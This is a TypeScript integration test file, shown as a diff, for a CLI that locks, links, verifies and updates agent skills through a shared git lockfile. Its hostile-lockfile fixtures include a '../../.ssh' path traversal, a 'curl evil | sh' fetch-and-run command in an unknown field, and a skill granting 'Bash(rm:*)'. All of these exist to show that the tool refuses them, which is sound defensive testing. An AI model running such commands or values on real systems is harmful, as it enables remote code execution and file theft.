@@ -1,0 +1,459 @@
+// A project's lockfile as a team uses it, with no FUSE anywhere: the built CLI run as each person
+// (a HOME of their own) against the reference server over Streamable HTTP. One person locks skills
+// into a git repository's skills-lock.json; another, who never approved anything, links exactly
+// those bytes; the server moving on is shown by outdated and verify and never reaches a linked entry
+// until update; hostile lockfiles are refused by entry without touching anything of the user's; a
+// policy has the last word; link --watch follows a replaced lockfile, and writers racing it never
+// leave a half-written file.
+import { spawn } from 'node:child_process';
+import { access, chmod, readFile, readlink, rm, truncate, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { removeReadOnlyTree } from '../../src/read-only-tree.js';
+import { changeLockfile } from '../../src/team/lockfile-store.js';
+import { MAX_LOCKFILE_BYTES, parseLockfile } from '../../src/team/lockfile.js';
+import { startHttpServe, type ListeningServer } from '../support/http-server.js';
+import { writeTree } from '../support/skill-builder.js';
+import { cli, git, gitProject, namesIn, person, replaceByRename, startCli, writeConfig, writePolicy, type Person } from '../support/team-lock-world.js';
+import { copyOf, lockedEntry, lockText, rawLockfile, setDigestOf, sha256Of, skillText, type RawLockfile } from '../support/team-lockfile.js';
+import { makeTempDir } from '../support/temp-dir.js';
+
+const LOCKFILE = 'skills-lock.json';
+const made: string[] = [];
+afterAll(async () => {
+  for (const dir of made) await removeReadOnlyTree(dir).catch(() => rm(dir, { recursive: true, force: true }));
+});
+
+/** The served skills x, y (locked) and z (never locked), file by file. */
+const X1 = { 'SKILL.md': skillText('x', 'Does x things'), 'references/r.md': 'x reference, first version\n' };
+const Y = { 'SKILL.md': skillText('y', 'Does y things'), 'references/r.md': 'y reference\n' };
+const Z = { 'SKILL.md': skillText('z', 'Does z things') };
+/** x as the server serves it later: a new description, a body line, and an allowed-tools nobody granted. */
+const X2_SKILL_MD = skillText('x', 'Does x things better', 'allowed-tools: Bash(rm:*)\n', '# x\nnew body\n');
+
+async function servedFolder(base: string): Promise<string> {
+  const served = path.join(base, 'served');
+  await writeTree(served, {
+    ...Object.fromEntries(Object.entries(X1).map(([file, text]) => [`x/${file}`, text])),
+    ...Object.fromEntries(Object.entries(Y).map(([file, text]) => [`y/${file}`, text])),
+    ...Object.fromEntries(Object.entries(Z).map(([file, text]) => [`z/${file}`, text])),
+  });
+  return served;
+}
+
+/** A scratch folder removed after the file. */
+async function scratch(prefix: string): Promise<string> {
+  const dir = await makeTempDir(prefix);
+  made.push(dir);
+  return dir;
+}
+
+/** A person whose config names the team's server as "demo", with a token of their own in the URL. */
+async function teammate(base: string, name: string, server: ListeningServer, extra: Record<string, unknown> = {}): Promise<Person> {
+  const who = await person(base, name);
+  await writeConfig(who, { demo: { url: `${server.url}?token=${name}-QUERY-SECRET`, ...extra } });
+  return who;
+}
+
+function expectOk(result: { code: number | null; stdout: string; stderr: string }): void {
+  expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
+}
+
+/** Until `read` gives what `done` accepts; resolves how long that took. */
+async function timeUntil<T>(read: () => Promise<T>, done: (value: T) => boolean, timeoutMs: number, what: string): Promise<number> {
+  const started = Date.now();
+  let last: T | undefined;
+  while (Date.now() - started < timeoutMs) {
+    last = await read();
+    if (done(last)) return Date.now() - started;
+    await new Promise((resolve) => setTimeout(resolve, 10));
+  }
+  throw new Error(`${what}: not within ${timeoutMs} ms (last: ${JSON.stringify(last)})`);
+}
+
+describe('a team lock: lock, link on another machine, the server moving on, update, unlock, verify', () => {
+  let base: string;
+  let served: string;
+  let server: ListeningServer;
+  let project: string;
+  let lockfile: string;
+  let alice: Person;
+  let bob: Person;
+  let root: string;
+
+  beforeAll(async () => {
+    base = await scratch('team-lock-cli-');
+    served = await servedFolder(base);
+    server = await startHttpServe([served]);
+    project = await gitProject(path.join(base, 'project'));
+    lockfile = path.join(project, LOCKFILE);
+    root = path.join(project, '.claude', 'skills');
+    // Alice's server entry carries secrets in three places; Bob's has his own token and no approvals at all.
+    alice = await teammate(base, 'alice', server, { headers: { Authorization: 'Bearer alice-HEADER-SECRET', 'X-Api-Key': 'alice-KEY-SECRET' } });
+    bob = await teammate(base, 'bob', server);
+  });
+  afterAll(async () => {
+    await server?.stop();
+  });
+
+  it('lock writes a sorted lockfile, one line per file, with no secret; a teammate who approved nothing links exactly the locked skills; verify passes', async () => {
+    const locked = await cli(alice, ['lock', 'demo/y', 'demo/x', '--project', project, '--yes']);
+    expectOk(locked);
+    expect(locked.stdout).toMatch(new RegExp(`locked demo/x: 2 files, set sha256:[0-9a-f]{64}, in ${lockfile}`));
+    const text = await readFile(lockfile, 'utf8');
+    // The exact entries, computed here from the served bytes; the server by its URL alone.
+    expect(JSON.parse(text)).toEqual(rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'x', X1), lockedEntry('demo', 'y', Y)]));
+    expect(text).not.toMatch(/SECRET|token=|Bearer|Authorization|X-Api-Key/i);
+    const fileLines = text.split('\n').filter((line) => line.includes('"path":') && line.includes('"digest":'));
+    expect(fileLines).toHaveLength(4);
+    for (const line of fileLines) expect(line).toMatch(/^ {8}\{"path":"[^"]+","size":\d+,"digest":"sha256:[0-9a-f]{64}","uri":"skill:\/\/[^"]+"\},?$/);
+    expect(text.endsWith('}\n')).toBe(true);
+    // Nothing else left in the project: no writer's lock, no temp file.
+    expect(await namesIn(project)).toEqual(['.git', LOCKFILE]);
+    await git(project, 'add', LOCKFILE);
+    await git(project, 'commit', '-q', '-m', 'lock x and y');
+
+    const approvalsOfBob = path.join(bob.env.XDG_CONFIG_HOME!, 'skills-mount', 'approvals.json');
+    const linked = await cli(bob, ['link', 'claude-code', '--project', project]);
+    expectOk(linked);
+    expect(linked.stdout).toContain(`claude-code: ${root}: 2 skills linked (added x, y)`);
+    expect(await namesIn(root)).toEqual(['x', 'y']);
+    expect(await readFile(path.join(root, 'x', 'references', 'r.md'), 'utf8')).toBe(X1['references/r.md']);
+    expect(await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8')).toContain('Does x things');
+    await expect(access(approvalsOfBob)).rejects.toThrow(/ENOENT/);
+
+    const verified = await cli(bob, ['verify', '--project', project]);
+    expectOk(verified);
+    expect(verified.stdout).toMatch(/2 locked skills, 2 entries in 1 root, 4 files: as locked/);
+  });
+
+  it('the server changes x: outdated shows the diff, the file table and the new allowed-tools (exit 1, text and --json); the linked entry keeps the locked bytes; verify --against-server names x; a fresh machine gets x refused by name and y linked', async () => {
+    await writeFile(path.join(served, 'x', 'SKILL.md'), X2_SKILL_MD);
+    // skills-serve sees the change after its watch settles.
+    await new Promise((resolve) => setTimeout(resolve, 400));
+    const clone = path.join(base, 'clone');
+    await git(base, 'clone', '-q', project, clone);
+    const carol = await teammate(base, 'carol', server);
+
+    const [outdated, json, linked, against, fresh] = await Promise.all([
+      cli(alice, ['outdated', '--project', project]),
+      cli(alice, ['outdated', '--project', project, '--json']),
+      cli(bob, ['link', 'claude-code', '--project', project]),
+      cli(bob, ['verify', '--project', project, '--against-server']),
+      cli(carol, ['link', 'claude-code', '--project', clone]),
+    ]);
+
+    expect(outdated.code, outdated.stderr).toBe(1);
+    const lockedX = lockedEntry('demo', 'x', X1);
+    expect(outdated.stdout).toContain(`demo/x: the server serves another version (locked set ${lockedX.resourcesDigest}, served sha256:`);
+    expect(outdated.stdout).toMatch(/^ {2}changed {2}SKILL\.md {2}\d+ B -> \d+ B$/m);
+    expect(outdated.stdout).toContain('  ! allowed-tools: Bash(rm:*)  (new in this version: an update never grants it)');
+    const diff = ['  --- a/demo/x/SKILL.md', '  +++ b/demo/x/SKILL.md', '  -description: Does x things', '  +description: Does x things better', '  +allowed-tools: Bash(rm:*)', '  +new body'];
+    for (const line of diff) expect(outdated.stdout.split('\n')).toContain(line);
+    expect(outdated.stdout).toContain('demo/y: current');
+    expect(outdated.stdout).toContain('2 locked skills: 1 current, 1 changed');
+
+    expect(json.code, json.stderr).toBe(1);
+    const report = JSON.parse(json.stdout) as { lockfile: string; skills: Array<Record<string, unknown>> };
+    expect(report.lockfile).toBe(lockfile);
+    expect(report.skills).toEqual([
+      expect.objectContaining({
+        server: 'demo',
+        path: 'x',
+        state: 'changed',
+        lockedResourcesDigest: lockedX.resourcesDigest,
+        files: [{ path: 'SKILL.md', change: 'changed', lockedBytes: Buffer.byteLength(X1['SKILL.md']), servedBytes: Buffer.byteLength(X2_SKILL_MD) }],
+        newPermissionFields: [{ field: 'allowed-tools', value: 'Bash(rm:*)' }],
+      }),
+      { server: 'demo', path: 'y', state: 'current', lockedResourcesDigest: lockedEntry('demo', 'y', Y).resourcesDigest },
+    ]);
+    // The same diff as the text shows.
+    for (const line of diff) expect((report.skills[0]!.skillMdDiff as string).split('\n')).toContain(line.slice(2));
+
+    expectOk(linked);
+    const linkedSkillMd = await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8');
+    expect(linkedSkillMd).toContain('Does x things');
+    expect(linkedSkillMd).not.toContain('better');
+    expect(linkedSkillMd).not.toContain('new body');
+
+    expect(against.code, against.stderr).toBe(1);
+    expect(against.stdout).toContain('demo/x: the server serves another version: SKILL.md changed');
+    expect(against.stdout).not.toMatch(/^demo\/y/m);
+
+    expect(fresh.code, fresh.stderr).toBe(1);
+    expect(fresh.stdout).toMatch(/demo\/x is not linked: SKILL\.md: the bytes read \(\d+ bytes, sha256:[0-9a-f]{64}\) are not the approved ones/);
+    expect(await namesIn(path.join(clone, '.claude', 'skills'))).toEqual(['y']);
+  });
+
+  it('verify names a lock entry that is not what is installed (another valid digest, its set digest recomputed)', async () => {
+    const lock = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
+    const y = lock.skills.find((skill) => skill.path === 'y')!;
+    const reference = y.files.find((file) => file.path === 'references/r.md')!;
+    reference.digest = sha256Of('another reference\n');
+    reference.size = 18;
+    y.resourcesDigest = setDigestOf(y.files);
+    await writeFile(lockfile, lockText(lock));
+    const verified = await cli(bob, ['verify', '--project', project]);
+    expect(verified.code, verified.stdout + verified.stderr).toBe(1);
+    expect(verified.stdout).toMatch(/\/y: .*/);
+    expect(verified.stdout).toMatch(/1 difference/);
+    await git(project, 'checkout', '-q', '--', LOCKFILE);
+    expectOk(await cli(bob, ['verify', '--project', project]));
+  });
+
+  it('update rewrites only x\'s entry and grants nothing new; link then gives the new bytes; outdated exits 0', async () => {
+    const updated = await cli(alice, ['update', 'demo/x', '--project', project, '--yes']);
+    expectOk(updated);
+    expect(updated.stdout).toContain('  ! allowed-tools: Bash(rm:*)  (new in this version: an update never grants it)');
+    expect(updated.stdout).toMatch(/updated demo\/x: set sha256:[0-9a-f]{64}\n/);
+    const lock = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
+    const x2 = lockedEntry('demo', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD });
+    expect(lock.skills).toEqual([x2, lockedEntry('demo', 'y', Y)]);
+    expect(lock.skills[0]!.grants).toEqual({ allowedTools: null, exec: false });
+    // A small diff: x's two digests and its SKILL.md line.
+    expect((await git(project, 'diff', '--numstat', '--', LOCKFILE)).trim()).toBe(`3\t3\t${LOCKFILE}`);
+
+    const [linked, outdated] = await Promise.all([cli(bob, ['link', 'claude-code', '--project', project]), cli(alice, ['outdated', '--project', project])]);
+    expectOk(linked);
+    expect(linked.stdout).toContain('(replaced x)');
+    const entry = await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8');
+    expect(entry).toContain('new body');
+    expect(entry).not.toMatch(/allowed-tools/);
+    expectOk(outdated);
+    expect(outdated.stdout).toContain('2 locked skills: 2 current, 0 changed');
+  });
+
+  it('unlock removes the entry, and link then removes it from the root', async () => {
+    const unlocked = await cli(alice, ['unlock', 'demo/x', '--project', project]);
+    expectOk(unlocked);
+    expect(unlocked.stdout).toContain(`unlocked demo/x (${lockfile})`);
+    expect((JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile).skills.map((skill) => skill.path)).toEqual(['y']);
+    const linked = await cli(bob, ['link', 'claude-code', '--project', project]);
+    expectOk(linked);
+    expect(linked.stdout).toContain('(removed x)');
+    expect(await namesIn(root)).toEqual(['y']);
+  });
+
+  it('verify names a linked file changed in the store', async () => {
+    const file = path.join(await readlink(path.join(root, 'y')), 'references', 'r.md');
+    await chmod(path.dirname(file), 0o755);
+    await chmod(file, 0o644);
+    await writeFile(file, 'tampered\n');
+    const verified = await cli(bob, ['verify', '--project', project, '--json']);
+    expect(verified.code).toBe(1);
+    const report = JSON.parse(verified.stdout) as { problems: Array<{ where: string; detail: string }> };
+    expect(report.problems.map((problem) => problem.where)).toContain(path.join(root, 'y'));
+    expect(report.problems.map((problem) => problem.detail)).toContainEqual(expect.stringMatching(/^references\/r\.md: hashes to sha256:[0-9a-f]{64}, approved sha256:/));
+  });
+});
+
+describe('hostile lockfiles and the policy', () => {
+  let base: string;
+  let server: ListeningServer;
+  let good: RawLockfile;
+
+  beforeAll(async () => {
+    base = await scratch('team-lock-hostile-');
+    server = await startHttpServe([await servedFolder(base)]);
+    good = rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'x', X1), lockedEntry('demo', 'y', Y)]);
+  });
+  afterAll(async () => {
+    await server?.stop();
+  });
+
+  const USER_SKILL = skillText('mine', 'My own skill');
+
+  /** A project whose claude-code root holds the user's own skill "mine", with `lock` as its lockfile; a person to link it. */
+  async function hostileProject(name: string, lock: string | ((file: string) => Promise<void>)): Promise<{ who: Person; project: string; root: string }> {
+    const project = await gitProject(path.join(base, `project-${name}`));
+    const root = path.join(project, '.claude', 'skills');
+    await writeTree(root, { 'mine/SKILL.md': USER_SKILL });
+    const file = path.join(project, LOCKFILE);
+    if (typeof lock === 'string') await writeFile(file, lock);
+    else await lock(file);
+    return { who: await teammate(base, `person-${name}`, server), project, root };
+  }
+
+  it('each refused whole, naming the entry: exit 1, nothing linked, the user\'s own skill untouched', async () => {
+    const bad = (change: (lock: RawLockfile) => void): string => {
+      const lock = copyOf(good);
+      change(lock);
+      return lockText(lock);
+    };
+    const cases: Array<{ name: string; lock: string | ((file: string) => Promise<void>); says: RegExp }> = [
+      {
+        name: 'huge',
+        lock: async (file) => {
+          await writeFile(file, '');
+          await truncate(file, MAX_LOCKFILE_BYTES + 1);
+        },
+        says: new RegExp(`${LOCKFILE}: is ${MAX_LOCKFILE_BYTES + 1} bytes; a lockfile is at most ${MAX_LOCKFILE_BYTES}`),
+      },
+      { name: 'digest', lock: bad((lock) => void (lock.skills[1]!.files[1]!.digest = sha256Of('swapped\n'))), says: /skills\[1\] \(demo\/y\): has a resourcesDigest that does not match its files/ },
+      { name: 'escape', lock: bad((lock) => void (lock.skills[1]!.path = '../../.ssh')), says: /skills\[1\] \(demo\/\.\.\/\.\.\/\.ssh\): has a path that has an empty, "\." or "\.\." segment/ },
+      { name: 'duplicate', lock: bad((lock) => void lock.skills.push(copyOf(lock.skills[0]!))), says: /skills\[2\] \(demo\/x\): locks the same skill as skills\[0\] \(demo\/x\)/ },
+      { name: 'newer', lock: bad((lock) => void (lock.lockfileVersion = 2)), says: /is lockfileVersion 2, written by a newer skills-mount; this one reads version 1: upgrade skills-mount/ },
+      { name: 'unknown', lock: bad((lock) => void ((lock.skills[0] as unknown as Record<string, unknown>).postLink = 'curl evil | sh')), says: /skills\[0\]: has unknown field "postLink"/ },
+      {
+        // x's files under y's path: a policy rule on "y" would have judged x.
+        name: 'moved',
+        lock: bad((lock) => {
+          lock.skills = [{ ...lockedEntry('demo', 'x', X1), path: 'y', name: 'y' }];
+        }),
+        says: /skills\[0\] \(demo\/y\): has uri skill:\/\/x\/SKILL\.md, which is not the SKILL\.md of its path/,
+      },
+    ];
+    const projects = await Promise.all(cases.map((one) => hostileProject(one.name, one.lock)));
+    const results = await Promise.all(projects.map(({ who, project }) => cli(who, ['link', 'claude-code', '--project', project])));
+    for (const [index, one] of cases.entries()) {
+      const result = results[index]!;
+      expect(result.code, `${one.name}: ${result.stdout}${result.stderr}`).toBe(1);
+      expect(result.stderr, one.name).toMatch(one.says);
+      expect(await namesIn(projects[index]!.root), one.name).toEqual(['mine']);
+      expect(await readFile(path.join(projects[index]!.root, 'mine', 'SKILL.md'), 'utf8')).toBe(USER_SKILL);
+    }
+  });
+
+  it('a server the configuration here lacks, and a grant the user\'s policy never gives: that skill refused by name (the policy file and rule named), the rest linked, exit 1', async () => {
+    const otherServer = copyOf(good);
+    otherServer.servers.other = { url: 'http://127.0.0.1:9/other/mcp' };
+    otherServer.skills[0]!.server = 'other';
+    const granted = copyOf(good);
+    granted.skills[0] = lockedEntry('demo', 'x', X1, { exec: true });
+    const [unknown, policed] = await Promise.all([hostileProject('other-server', lockText(otherServer)), hostileProject('grant', lockText(granted))]);
+    await writePolicy(policed.who, { policyVersion: 1, neverGrant: ['exec'] });
+    const [first, second] = await Promise.all([
+      cli(unknown.who, ['link', 'claude-code', '--project', unknown.project]),
+      cli(policed.who, ['link', 'claude-code', '--project', policed.project]),
+    ]);
+    expect(first.code, first.stdout + first.stderr).toBe(1);
+    expect(first.stdout).toContain('other/x is not linked: the lock names server "other" (http://127.0.0.1:9/other/mcp) and the configuration here has no server "other"');
+    expect(await namesIn(unknown.root)).toEqual(['mine', 'y']);
+    expect(second.code, second.stdout + second.stderr).toBe(1);
+    expect(second.stdout).toContain(`demo/x is not linked: refused by policy ${policed.who.policyFile} (neverGrant): server "demo" (${server.url}) may not be granted exec: it is never given`);
+    expect(await namesIn(policed.root)).toEqual(['mine', 'y']);
+    for (const { root } of [unknown, policed]) expect(await readFile(path.join(root, 'mine', 'SKILL.md'), 'utf8')).toBe(USER_SKILL);
+  });
+
+  it('a policy that does not let the server be linked or locked: link refuses the locked skills, lock refuses to add one, the lockfile stays as it was', async () => {
+    const { who, project, root } = await hostileProject('denied', lockText(good));
+    // The user's policy stands in for the machine's: the CLI reads the machine policy from /etc only.
+    await writePolicy(who, { policyVersion: 1, servers: [{ url: server.url, may: ['mount', 'approve'] }] });
+    const before = await readFile(path.join(project, LOCKFILE), 'utf8');
+    const [linked, locked] = await Promise.all([cli(who, ['link', 'claude-code', '--project', project]), cli(who, ['lock', 'demo/z', '--project', project, '--yes'])]);
+    expect(linked.code, linked.stdout + linked.stderr).toBe(1);
+    for (const skill of ['x', 'y']) {
+      expect(linked.stdout).toContain(`demo/${skill} is not linked: refused by policy ${who.policyFile} (servers[0]): skill "${skill}" of server "demo" (${server.url}) may not be linked`);
+    }
+    expect(await namesIn(root)).toEqual(['mine']);
+    expect(locked.code, locked.stdout + locked.stderr).toBe(1);
+    expect(locked.stdout).toContain(`demo/z: refused by policy ${who.policyFile} (servers[0]): server "demo" (${server.url}) may not be locked`);
+    expect(await readFile(path.join(project, LOCKFILE), 'utf8')).toBe(before);
+  });
+});
+
+describe('link --watch and writers racing it', () => {
+  let base: string;
+  let served: string;
+  let server: ListeningServer;
+
+  beforeAll(async () => {
+    base = await scratch('team-lock-watch-');
+    served = await servedFolder(base);
+    server = await startHttpServe([served]);
+  });
+  afterAll(async () => {
+    await server?.stop();
+  });
+
+  it('follows a lockfile replaced by rename within 1 s; lock, update and twenty more writes while it runs never leave a half-written file or lose an entry', async () => {
+    const project = await gitProject(path.join(base, 'project'));
+    const lockfile = path.join(project, LOCKFILE);
+    const root = path.join(project, '.claude', 'skills');
+    const both = rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'x', X1), lockedEntry('demo', 'y', Y)]);
+    const onlyY = rawLockfile({ demo: { url: server.url } }, [lockedEntry('demo', 'y', Y)]);
+    await writeFile(lockfile, lockText(both));
+    const dana = await teammate(base, 'dana', server);
+    const watching = startCli(dana, ['link', 'claude-code', '--project', project, '--watch']);
+    try {
+      await timeUntil(() => namesIn(root), (names) => names.join() === 'x,y', 30_000, 'the first sync');
+
+      await replaceByRename(lockfile, lockText(onlyY));
+      const removedMs = await timeUntil(() => namesIn(root), (names) => names.join() === 'y', 5_000, 'x removed');
+      expect(removedMs, 'x removed after the lockfile was replaced').toBeLessThan(1_000);
+      await replaceByRename(lockfile, lockText(both));
+      const addedMs = await timeUntil(() => namesIn(root), (names) => names.join() === 'x,y', 5_000, 'x back');
+      expect(addedMs, 'x linked again after the lockfile was replaced').toBeLessThan(1_000);
+
+      // The server moves x on; then, all at once: update x and lock z (the CLI), twenty writes of y's
+      // entry (out, in) under the writer's lock, and another process parsing the file in a tight loop.
+      await writeFile(path.join(served, 'x', 'SKILL.md'), X2_SKILL_MD);
+      await new Promise((resolve) => setTimeout(resolve, 400));
+      const reader = await parseLoop(lockfile);
+      const y = parseLockfile(lockText(both), lockfile).skills.find((skill) => skill.path === 'y')!;
+      const writes = (async () => {
+        for (let round = 0; round < 20; round++) {
+          await changeLockfile(lockfile, (lock) => ({ servers: lock.servers, skills: round % 2 === 0 ? lock.skills.filter((skill) => skill.path !== 'y') : [...lock.skills, y] }));
+        }
+      })();
+      const [updated, locked] = await Promise.all([cli(dana, ['update', 'demo/x', '--project', project, '--yes']), cli(dana, ['lock', 'demo/z', '--project', project, '--yes']), writes]);
+      const reads = await reader.stop();
+      expectOk(updated);
+      expectOk(locked);
+      expect(reads.failures, reads.firstFailure).toBe(0);
+      expect(reads.whole).toBeGreaterThan(20);
+
+      // Every writer's change is there: x updated, y back (the last round), z locked.
+      const final = JSON.parse(await readFile(lockfile, 'utf8')) as RawLockfile;
+      expect(final.skills).toEqual([lockedEntry('demo', 'x', { ...X1, 'SKILL.md': X2_SKILL_MD }), lockedEntry('demo', 'y', Y), lockedEntry('demo', 'z', Z)]);
+      expect(await namesIn(project)).toEqual(['.claude', '.git', LOCKFILE]);
+      // And link --watch followed: the new x, y and z in the root.
+      await timeUntil(async () => [(await namesIn(root)).join(), await readFile(path.join(root, 'x', 'SKILL.md'), 'utf8').catch(() => '')] as const, ([names, x]) => names === 'x,y,z' && x.includes('new body'), 10_000, 'the root after the writes');
+      expectOk(await cli(dana, ['verify', '--project', project]));
+    } finally {
+      const exit = await watching.stop();
+      expect(exit.code ?? exit.signal, watching.stderr()).toBe(0);
+    }
+  }, 90_000);
+});
+
+/** A child process that parses `file` as fast as it can until stopped: how many whole reads, how many not. */
+async function parseLoop(file: string): Promise<{ stop(): Promise<{ whole: number; failures: number; firstFailure: string }> }> {
+  const lockfileModule = fileURLToPath(new URL('../../dist/team/lockfile.js', import.meta.url));
+  const script = `
+    const { readLockfile } = await import(${JSON.stringify(lockfileModule)});
+    let whole = 0, failures = 0, firstFailure = '', stop = false;
+    process.stdin.on('data', () => { stop = true; });
+    process.stdout.write('ready\\n');
+    while (!stop) {
+      try {
+        const lock = await readLockfile(${JSON.stringify(file)});
+        if (lock === undefined) throw new Error('no lockfile');
+        whole += 1;
+      } catch (error) {
+        failures += 1;
+        firstFailure ||= String(error && error.message);
+      }
+      await new Promise((resolve) => setImmediate(resolve));
+    }
+    process.stdout.write(JSON.stringify({ whole, failures, firstFailure }), () => process.exit(0));
+  `;
+  const child = spawn(process.execPath, ['--input-type=module', '-e', script], { stdio: ['pipe', 'pipe', 'inherit'] });
+  let out = '';
+  const closed = new Promise<void>((resolve) => child.once('close', () => resolve()));
+  await new Promise<void>((resolve, reject) => {
+    child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
+      out += chunk;
+      if (out.startsWith('ready\n')) resolve();
+    });
+    void closed.then(() => reject(new Error(`the reader exited before it was ready: ${out}`)));
+  });
+  return {
+    async stop() {
+      child.stdin.write('stop\n');
+      await closed;
+      return JSON.parse(out.slice('ready\n'.length)) as { whole: number; failures: number; firstFailure: string };
+    },
+  };
+}
